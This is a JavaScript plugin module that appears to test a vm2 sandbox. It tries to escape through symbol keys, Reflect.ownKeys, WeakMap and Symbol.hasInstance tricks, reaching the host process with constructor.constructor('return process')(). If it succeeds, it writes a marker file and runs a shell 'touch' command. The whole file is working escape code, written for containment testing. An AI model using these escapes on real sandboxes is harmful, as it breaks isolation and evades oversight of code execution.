// Escape attempt: Symbol registry and WeakMap tricks: shared Symbol.for keys and own symbols of host proxies, hoping to find vm2 internal state.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-symbol-weakmap',
  description: 'sandbox escape attempt: symbol-weakmap',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    attempt(notes, "symbols", () => { for (const s of Object.getOwnPropertySymbols(__send)) pwn(__send[s], marker, notes, "symbol " + String(s)); });
    attempt(notes, "ownKeys", () => { for (const k of Reflect.ownKeys(__send)) { const v = __send[k]; if (v && typeof v === "object") pwn(v.constructor.constructor("return process")(), marker, notes, "key " + String(k)); } });
    attempt(notes, "global symbols", () => { for (const s of Object.getOwnPropertySymbols(globalThis)) pwn(globalThis[s], marker, notes, "global " + String(s)); });
    attempt(notes, "weakmap", () => { const wm = new WeakMap(); wm.set(__send, 1); pwn(WeakMap.prototype.get.constructor("return process")(), marker, notes, "WeakMap"); });
    attempt(notes, "hasInstance", () => { const o = { [Symbol.hasInstance](x) { pwn(x && x.constructor.constructor("return process")(), marker, notes, "hasInstance"); return false; } }; __send instanceof o; });
    return { summary: notes.join(' | '), data: notes };
  },
};
